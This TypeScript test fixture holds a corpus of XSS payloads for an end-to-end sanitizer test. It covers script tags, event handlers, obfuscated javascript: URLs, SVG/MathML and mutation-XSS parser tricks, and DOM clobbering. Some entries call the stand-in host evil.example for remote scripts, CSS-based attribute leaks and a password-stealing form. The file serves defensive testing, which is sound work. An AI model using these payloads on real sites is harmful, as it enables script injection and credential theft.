/**
 * Hostile strings for the end-to-end XSS test (xss.test.ts): each is stored in the emulator as a
 * topic title, a description fragment, a comment and an author name, and must reach Chromium
 * harmless and still readable.
 *
 * Every payload that would run script calls `__xss.push(name)` (or `alert(name)` where the code
 * would run in another origin, which the test's dialog listener catches), so an execution names
 * the payload that caused it. `readable` lists text the reader must still see once the payload
 * is made harmless; titles and names must show the whole `html`, character for character.
 */

export type XssCategory =
  | "script"
  | "event-handler"
  | "javascript-url"
  | "data-url"
  | "vbscript"
  | "svg"
  | "mathml"
  | "css"
  | "embedding"
  | "entities"
  | "mutation"
  | "clobbering"
  | "long"
  | "unicode";

export interface XssPayload {
  /** Unique, `[a-z0-9-]`: what the payload pushes to `__xss`, and its markers' name. */
  readonly name: string;
  readonly category: XssCategory;
  /** Raw HTML, as an attacker stores it upstream. */
  readonly html: string;
  /** Text that must still be visible, besides the markers around the payload. */
  readonly readable?: readonly string[];
  /**
   * The HTML parser itself may swallow what follows (an unclosed comment, raw-text element,
   * foreign-content element or attribute), so the text after the payload may be lost.
   */
  readonly swallowsRest?: boolean;
}

type Build = (js: string, name: string) => string;

function payload(
  category: XssCategory,
  name: string,
  build: Build,
  options: Pick<XssPayload, "readable" | "swallowsRest"> = {},
): XssPayload {
  return { name, category, html: build(`__xss.push('${name}')`, name), ...options };
}

const base64 = (text: string) => Buffer.from(text, "utf8").toString("base64");

/** About 100 KB of ordinary prose: long content must survive whole. */
function longText(): string {
  const sentence = (n: number) =>
    `Sentence ${n} of a very long post, which keeps going so that the board must cope. `;
  let text = "";
  for (let n = 1; text.length < 99_000; n++) text += sentence(n);
  return `${text}The end.`;
}
const LONG = longText();

const UNICODE = {
  rtl: "invoice \u202Egpj.exe\u202C and \u2067isolated \u05E2\u05D1\u05E8\u05D9\u05EA\u2069 text",
  zwj: "family \u{1F468}\u200D\u{1F469}\u200D\u{1F467}\u200D\u{1F466} flag \u{1F3F3}\uFE0F\u200D\u{1F308} hand \u{1F44D}\u{1F3FD}",
  combining:
    "Z\u0324\u0354\u0367\u0311\u0313a\u0308\u0356\u032D\u0308\u0307l\u036E\u0312\u036Bg\u030C\u0317\u035A o\u0319\u0314\u036E e\u0301",
  surrogates: "high \uD800 low \uDC00 reversed \uDC00\uD800 end",
  scripts:
    "\u041F\u0440\u0438\u0432\u0435\u0442 \u00B7 \u3053\u3093\u306B\u3061\u306F \u00B7 \u0645\u0631\u062D\u0628\u0627 \u00B7 \u05E9\u05DC\u05D5\u05DD \u00B7 \u{1D54F}\u{1D550}\u{1D551}",
  invisible: "zero\u200Bwidth\u200Cnon\u200Djoiner\u2060word\uFEFFbom\u00ADshy",
};

export const XSS_CORPUS: readonly XssPayload[] = [
  // ---- <script> ----
  payload("script", "script-plain", (js) => `<script>${js}</script>`),
  payload("script", "script-uppercase", (js) => `<SCRIPT>${js}</SCRIPT>`),
  payload("script", "script-mixed-case", (js) => `<ScRiPt type="text/javascript">${js}</sCrIpT>`),
  payload("script", "script-nested", (js) => `<scr<script>ipt>${js}</scr</script>ipt>`),
  payload(
    "script",
    "script-src-data",
    (js) => `<script src="data:text/javascript,${js}"></script>`,
  ),
  payload(
    "script",
    "script-src-remote",
    () => `<script src="https://evil.example/xss.js"></script>`,
  ),
  payload("script", "script-slash", (js) => `<script/xss>${js}</script>`),
  payload("script", "script-double-lt", (js) => `<<script>${js}//<</script>`),
  payload(
    "script",
    "script-attribute-breakout",
    (js) => `<a title="</a><script>${js}</script>">title text</a>`,
    { readable: ["title text"] },
  ),
  payload("script", "script-unclosed", (js) => `<script>${js}`, { swallowsRest: true }),

  // ---- event handlers ----
  payload("event-handler", "img-onerror", (js) => `<img src=x onerror="${js}">`),
  payload(
    "event-handler",
    "img-onload",
    (js) => `<img src="https://img.example/pixel.png" onload="${js}" alt="a pixel">`,
  ),
  payload("event-handler", "body-onload", (js) => `<body onload="${js}">body text</body>`, {
    readable: ["body text"],
  }),
  payload("event-handler", "div-onclick", (js) => `<div onclick="${js}">click me</div>`, {
    readable: ["click me"],
  }),
  payload(
    "event-handler",
    "a-onmouseover",
    (js) => `<a href="https://example.com/" onmouseover="${js}">hover me</a>`,
    { readable: ["hover me"] },
  ),
  payload("event-handler", "input-autofocus", (js) => `<input autofocus onfocus="${js}">`),
  payload(
    "event-handler",
    "div-autofocus",
    (js) => `<div tabindex="0" autofocus onfocus="${js}" onblur="${js}">focus me</div>`,
    { readable: ["focus me"] },
  ),
  payload(
    "event-handler",
    "onanimationstart",
    (js) =>
      `<style>@keyframes xss{from{opacity:.9}to{opacity:1}}</style>` +
      `<p style="animation:xss 1ms" onanimationstart="${js}">animated</p>`,
    { readable: ["animated"] },
  ),
  payload(
    "event-handler",
    "details-ontoggle",
    (js) => `<details open ontoggle="${js}"><summary>summary</summary>details body</details>`,
    { readable: ["summary", "details body"] },
  ),
  payload("event-handler", "img-unquoted", (js) => `<img src=x onerror=${js}>`),
  payload("event-handler", "img-backtick", (js) => `<img src=x onerror=\`\${${js}}\`>`),
  payload("event-handler", "img-newlines", (js) => `<img\nsrc=x\nonerror\n=\n"${js}"\n>`),
  payload("event-handler", "img-tab-formfeed", (js) => `<img\tsrc=x\fonerror="${js}">`),
  payload("event-handler", "img-slashes", (js) => `<img/src="x"/onerror="${js}">`),
  payload("event-handler", "img-no-space", (js) => `<img src="x"onerror="${js}">`),
  payload("event-handler", "img-uppercase", (js) => `<IMG SRC=x ONERROR="${js}">`),
  payload("event-handler", "video-source", (js) => `<video><source onerror="${js}"></video>`),
  payload("event-handler", "audio-onerror", (js) => `<audio src=x onerror="${js}"></audio>`),
  payload(
    "event-handler",
    "marquee-onstart",
    (js) => `<marquee onstart="${js}">marquee</marquee>`,
    {
      readable: ["marquee"],
    },
  ),
  payload(
    "event-handler",
    "custom-element",
    (js) => `<xss-el onpointerover="${js}" onclick="${js}">custom element</xss-el>`,
    { readable: ["custom element"] },
  ),
  payload(
    "event-handler",
    "allowed-tag-handler",
    (js) => `<b onmouseover="${js}" style="color:red">bold text</b>`,
    { readable: ["bold text"] },
  ),
  payload(
    "event-handler",
    "entity-quote-breakout",
    (js) => `<a href="https://example.com/" title="&quot; onmouseover=&quot;${js}">quoted</a>`,
    { readable: ["quoted"] },
  ),
  payload(
    "event-handler",
    "single-quote-breakout",
    (js) =>
      `<a href='https://example.com/' title='x" onmouseover="${js.replace(/'/g, "&#39;")}'>single</a>`,
    { readable: ["single"] },
  ),

  // ---- javascript: URLs ----
  payload("javascript-url", "href-javascript", (js) => `<a href="javascript:${js}">js link</a>`, {
    readable: ["js link"],
  }),
  payload("javascript-url", "href-case", (js) => `<a href="JaVaScRiPt:${js}">case link</a>`, {
    readable: ["case link"],
  }),
  payload("javascript-url", "href-tab", (js) => `<a href="java\tscript:${js}">tab link</a>`),
  payload("javascript-url", "href-newline", (js) => `<a href="java\nscript:${js}">nl link</a>`),
  payload("javascript-url", "href-entity-tab", (js) => `<a href="jav&#x09;ascript:${js}">t</a>`),
  payload(
    "javascript-url",
    "href-entity-newline",
    (js) => `<a href="jav&NewLine;ascript:${js}">n</a>`,
  ),
  payload(
    "javascript-url",
    "href-leading-space",
    (js) => `<a href="  \u0001 javascript:${js}">leading space</a>`,
    { readable: ["leading space"] },
  ),
  payload(
    "javascript-url",
    "href-decimal",
    (js) =>
      `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${js}">decimal</a>`,
  ),
  payload(
    "javascript-url",
    "href-no-semicolons",
    (js) => `<a href="&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58${js}">no semicolons</a>`,
  ),
  payload("javascript-url", "href-hex", (js) => `<a href="&#x6A;avascript:${js}">hex</a>`),
  payload("javascript-url", "href-colon", (js) => `<a href="javascript&colon;${js}">colon</a>`),
  payload("javascript-url", "href-58", (js) => `<a href="javascript&#58;${js}">58</a>`),
  payload(
    "javascript-url",
    "href-padded",
    (js) => `<a href="&#x0006A;avascript&#0000058;${js}">padded</a>`,
  ),
  payload(
    "javascript-url",
    "href-comment-newline",
    (js) => `<a href="javascript://%0a${js}">comment newline</a>`,
  ),
  payload(
    "javascript-url",
    "href-duplicate",
    (js) => `<a href="https://example.com/first" href="javascript:${js}">duplicate</a>`,
    { readable: ["duplicate"] },
  ),
  payload(
    "javascript-url",
    "formaction",
    (js) => `<form><button formaction="javascript:${js}">formaction button</button></form>`,
    { readable: ["formaction button"] },
  ),
  payload(
    "javascript-url",
    "form-action",
    (js) => `<form action="javascript:${js}"><input type="submit" value="send"></form>`,
  ),
  payload(
    "javascript-url",
    "iframe-javascript",
    (js) => `<iframe src="javascript:parent.${js}"></iframe>`,
  ),
  payload(
    "javascript-url",
    "area-href",
    (js) =>
      `<map name="m"><area shape="rect" coords="0,0,99,99" href="javascript:${js}" alt="area"></map>`,
  ),
  payload(
    "javascript-url",
    "object-javascript",
    (js) => `<object data="javascript:${js}"></object>`,
  ),
  payload("javascript-url", "embed-javascript", (js) => `<embed src="javascript:${js}">`),
  payload("javascript-url", "base-javascript", (js) => `<base href="javascript:${js}//">`),

  // ---- data: URLs ----
  payload(
    "data-url",
    "href-data-html",
    (_, name) => `<a href="data:text/html,<script>alert('${name}')</script>">data link</a>`,
  ),
  payload(
    "data-url",
    "href-data-base64",
    (_, name) =>
      `<a href="data:text/html;base64,${base64(`<script>alert('${name}')</script>`)}">b64 link</a>`,
  ),
  payload(
    "data-url",
    "img-data-svg",
    (_, name) =>
      `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(&quot;${name}&quot;)'/>">`,
  ),
  payload(
    "data-url",
    "iframe-data-html",
    (_, name) => `<iframe src="data:text/html,<script>alert('${name}')</script>"></iframe>`,
  ),
  payload(
    "data-url",
    "object-data-svg",
    (_, name) =>
      `<object data="data:image/svg+xml;base64,${base64(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert('${name}')"/>`)}"></object>`,
  ),
  payload(
    "data-url",
    "img-data-png",
    () =>
      `<img src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mO8e/fufwAIwQOP3k0bJwAAAABJRU5ErkJggg==" alt="inline">`,
  ),

  // ---- vbscript: ----
  payload(
    "vbscript",
    "href-vbscript",
    (_, name) => `<a href="vbscript:msgbox(&quot;${name}&quot;)">vb link</a>`,
    { readable: ["vb link"] },
  ),
  payload("vbscript", "img-vbscript", (_, name) => `<img src="vbscript:msgbox('${name}')">`),

  // ---- SVG ----
  payload("svg", "svg-onload", (js) => `<svg onload="${js}"></svg>`),
  payload("svg", "svg-script", (js) => `<svg><script>${js}</script></svg>`),
  payload(
    "svg",
    "svg-script-href",
    (js) => `<svg><script href="data:text/javascript,${js}"></script></svg>`,
  ),
  payload(
    "svg",
    "svg-xlink-href",
    (js) => `<svg><a xlink:href="javascript:${js}"><text x="10" y="20">svg link</text></a></svg>`,
  ),
  payload(
    "svg",
    "svg-animate-onbegin",
    (js) => `<svg><animate onbegin="${js}" attributeName="x" dur="1s"></animate></svg>`,
  ),
  payload(
    "svg",
    "svg-set-href",
    (js) =>
      `<svg><a><set attributeName="href" to="javascript:${js}"></set><text x="10" y="20">set</text></a></svg>`,
  ),
  payload(
    "svg",
    "svg-foreignobject",
    (js) => `<svg><foreignObject><img src=x onerror="${js}"></foreignObject></svg>`,
  ),
  payload("svg", "svg-self-closing", (js) => `<svg/><img src=x onerror="${js}">`),
  payload("svg", "svg-html-breakout", (js) => `<svg><p><img src=x onerror="${js}">`, {
    swallowsRest: true,
  }),

  // ---- MathML ----
  payload(
    "mathml",
    "math-mglyph-style",
    (js) => `<math><mtext><table><mglyph><style><img src=x onerror="${js}">`,
    { swallowsRest: true },
  ),
  payload(
    "mathml",
    "math-mglyph-comment",
    (js) =>
      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=${js}&gt;">`,
    { swallowsRest: true },
  ),
  payload(
    "mathml",
    "math-form-mglyph",
    (js) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${js}">`,
    { swallowsRest: true },
  ),
  payload(
    "mathml",
    "math-h1-mglyph-svg",
    (js) =>
      `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=${js}>"></style></h1>`,
    { swallowsRest: true },
  ),
  payload(
    "mathml",
    "math-style",
    (js) => `<math><style><img src=x onerror="${js}"></style></math>`,
  ),
  payload(
    "mathml",
    "math-xlink-href",
    (js) => `<math><mi xlink:href="javascript:${js}">math link</mi></math>`,
  ),
  payload("mathml", "math-href", (js) => `<math href="javascript:${js}"><mi>x</mi></math>`),
  payload(
    "mathml",
    "math-maction",
    (js) =>
      `<math><maction actiontype="statusline#https://example.com" xlink:href="javascript:${js}">maction</maction></math>`,
  ),

  // ---- CSS ----
  payload("css", "style-import", () => `<style>@import 'https://evil.example/x.css';</style>`),
  payload(
    "css",
    "style-url-javascript",
    (js) => `<p style="background:url(javascript:${js})">styled paragraph</p>`,
    { readable: ["styled paragraph"] },
  ),
  payload(
    "css",
    "style-expression",
    (js) => `<p style="width:expression(${js})">expression paragraph</p>`,
    { readable: ["expression paragraph"] },
  ),
  payload(
    "css",
    "link-stylesheet",
    () => `<link rel="stylesheet" href="https://evil.example/x.css">`,
  ),
  payload(
    "css",
    "style-exfiltration",
    () => `<style>*[title^="a"]{background:url(https://evil.example/leak?a)}</style>`,
  ),

  // ---- iframes, objects, embeds, forms, base, meta ----
  payload(
    "embedding",
    "iframe-srcdoc",
    (js) => `<iframe srcdoc="&lt;script&gt;parent.${js}&lt;/script&gt;"></iframe>`,
  ),
  payload("embedding", "iframe-remote", () => `<iframe src="https://evil.example/"></iframe>`),
  payload(
    "embedding",
    "object-remote",
    () =>
      `<object data="https://evil.example/x.swf" type="application/x-shockwave-flash"></object>`,
  ),
  payload("embedding", "embed-remote", () => `<embed src="https://evil.example/x.swf">`),
  payload(
    "embedding",
    "form-phishing",
    () =>
      `<form action="https://evil.example/steal" method="post"><label>Password <input type="password" name="pw"></label><button>Sign in</button></form>`,
    { readable: ["Password", "Sign in"] },
  ),
  payload("embedding", "base-remote", () => `<base href="https://evil.example/">`),
  payload(
    "embedding",
    "meta-refresh",
    (js) => `<meta http-equiv="refresh" content="0;url=javascript:${js}">`,
  ),
  payload(
    "embedding",
    "frameset",
    (js) => `<frameset onload="${js}"><frame src="javascript:parent.${js}"></frameset>`,
  ),

  // ---- entity tricks ----
  payload("entities", "entity-script", (js) => `&lt;script&gt;${js}&lt;/script&gt;`, {
    readable: ["<script>__xss.push('entity-script')</script>"],
  }),
  payload("entities", "entity-double", (js) => `&amp;lt;img src=x onerror=${js}&amp;gt;`, {
    readable: ["&lt;img src=x onerror=__xss.push('entity-double')&gt;"],
  }),
  payload("entities", "entity-numeric", (js) => `&#60;img src=x onerror=${js}&#62;`, {
    readable: ["<img src=x onerror=__xss.push('entity-numeric')>"],
  }),
  payload("entities", "entity-hex-bare", (js) => `&#x3C;svg onload=${js}&#x3E`, {
    readable: ["<svg onload=__xss.push('entity-hex-bare')>"],
  }),
  payload("entities", "entity-named-bare", (js) => `&ltscript&gt${js}&lt/script&gt`),
  payload("entities", "entity-invalid", () => `nul&#0;here, beyond&#x110000;unicode`, {
    readable: ["nul\uFFFDhere, beyond\uFFFDunicode"],
  }),
  payload(
    "entities",
    "entity-in-url",
    () => `<a href="https://example.com/?q=&amp;lt;script&amp;gt;">encoded query</a>`,
    { readable: ["encoded query"] },
  ),

  // ---- mutation XSS ----
  payload(
    "mutation",
    "mxss-noscript",
    (js) => `<noscript><p title="</noscript><img src=x onerror=${js}>"></noscript>`,
  ),
  payload(
    "mutation",
    "mxss-noscript-style",
    (js) => `<noscript><style></noscript><img src=x onerror="${js}">`,
  ),
  payload(
    "mutation",
    "mxss-textarea",
    (js) => `<textarea><p title="</textarea><img src=x onerror=${js}>"></textarea>`,
  ),
  payload(
    "mutation",
    "mxss-title",
    (js) => `<title><p title="</title><img src=x onerror=${js}>"></title>`,
  ),
  payload("mutation", "mxss-xmp", (js) => `<xmp><p title="</xmp><img src=x onerror=${js}>"></xmp>`),
  payload(
    "mutation",
    "mxss-template",
    (js) => `<template><img src=x onerror="${js}"><script>${js}</script></template>`,
  ),
  payload(
    "mutation",
    "mxss-select-style",
    (js) => `<select><style></select><img src=x onerror="${js}"></style></select>`,
  ),
  payload("mutation", "mxss-comment-bang", (js) => `<!-- --!><img src=x onerror="${js}"> -->`),
  payload("mutation", "mxss-comment-empty", (js) => `<!--><img src=x onerror="${js}">-->`),
  payload(
    "mutation",
    "mxss-comment-in-attribute",
    (js) => `<p title="<!--">attr text</p><img src=x onerror="${js}"> -->`,
    { readable: ["attr text"] },
  ),
  payload("mutation", "mxss-unterminated-attribute", (js) => `<img src="x onerror=${js} `, {
    swallowsRest: true,
  }),
  payload(
    "mutation",
    "mxss-p-in-attribute",
    (js) => `<p title="</p><img src=x onerror=${js}>">paragraph text</p>`,
    { readable: ["paragraph text"] },
  ),
  payload(
    "mutation",
    "mxss-svg-p-style",
    (js) => `<svg></p><style><a id="</style><img src=1 onerror=${js}>">`,
    { swallowsRest: true },
  ),
  payload(
    "mutation",
    "mxss-svg-style",
    (js) => `<svg><style><img src=x onerror="${js}"></style></svg>`,
  ),
  payload("mutation", "mxss-cdata", (js) => `<div><![CDATA[<img src=x onerror="${js}">]]></div>`),
  payload(
    "mutation",
    "mxss-svg-cdata",
    (js) => `<svg><![CDATA[</svg><img src=x onerror="${js}">]]></svg>`,
  ),
  payload("mutation", "mxss-nul-tag", (js) => `<scr\u0000ipt>${js}</scr\u0000ipt>`),
  payload("mutation", "mxss-plaintext", (js) => `<plaintext><img src=x onerror="${js}">`, {
    swallowsRest: true,
  }),

  // ---- DOM clobbering ----
  payload(
    "clobbering",
    "clobber-form-name",
    () => `<form name="getElementById"></form><form name="cookie"><input name="domain"></form>`,
  ),
  payload(
    "clobbering",
    "clobber-img-name",
    () =>
      `<img name="getElementById" id="body" src="https://img.example/clobber.png" alt="clobber">`,
  ),
  payload(
    "clobbering",
    "clobber-detector",
    () => `<a id="__xss" name="__xss" href="https://example.com/">clobber link</a>`,
    { readable: ["clobber link"] },
  ),
  payload(
    "clobbering",
    "clobber-attributes",
    () => `<form id="f"><input name="attributes"><input name="parentNode"></form>`,
  ),
  payload(
    "clobbering",
    "clobber-cid",
    (js) => `<a id="defaultView" name="defaultView" href="cid:${js}">cid link</a>`,
    { readable: ["cid link"] },
  ),

  // ---- long and unicode ----
  payload("long", "long-100kb", () => `<p>${LONG}</p>`, { readable: [LONG] }),
  payload("unicode", "unicode-rtl", () => `<p>${UNICODE.rtl}</p>`, { readable: [UNICODE.rtl] }),
  payload("unicode", "unicode-zwj", () => `<p>${UNICODE.zwj}</p>`, { readable: [UNICODE.zwj] }),
  payload("unicode", "unicode-combining", () => UNICODE.combining, {
    readable: [UNICODE.combining],
  }),
  payload("unicode", "unicode-surrogates", () => `<b>${UNICODE.surrogates}</b>`, {
    readable: [UNICODE.surrogates],
  }),
  payload("unicode", "unicode-scripts", () => `<p>${UNICODE.scripts}</p>`, {
    readable: [UNICODE.scripts],
  }),
  payload("unicode", "unicode-invisible", () => `<p>${UNICODE.invisible}</p>`, {
    readable: [UNICODE.invisible],
  }),
  payload("unicode", "unicode-fullwidth", (js) => `\uFF1Cscript\uFF1E${js}\uFF1C/script\uFF1E`, {
    readable: ["\uFF1Cscript\uFF1E__xss.push('unicode-fullwidth')\uFF1C/script\uFF1E"],
  }),
  payload(
    "unicode",
    "unicode-idn-link",
    () => `<a href="https://\u4F8B\u3048.\u30C6\u30B9\u30C8/\u30D1\u30B9?q=\u00FC">IDN link</a>`,
    { readable: ["IDN link"] },
  ),
];
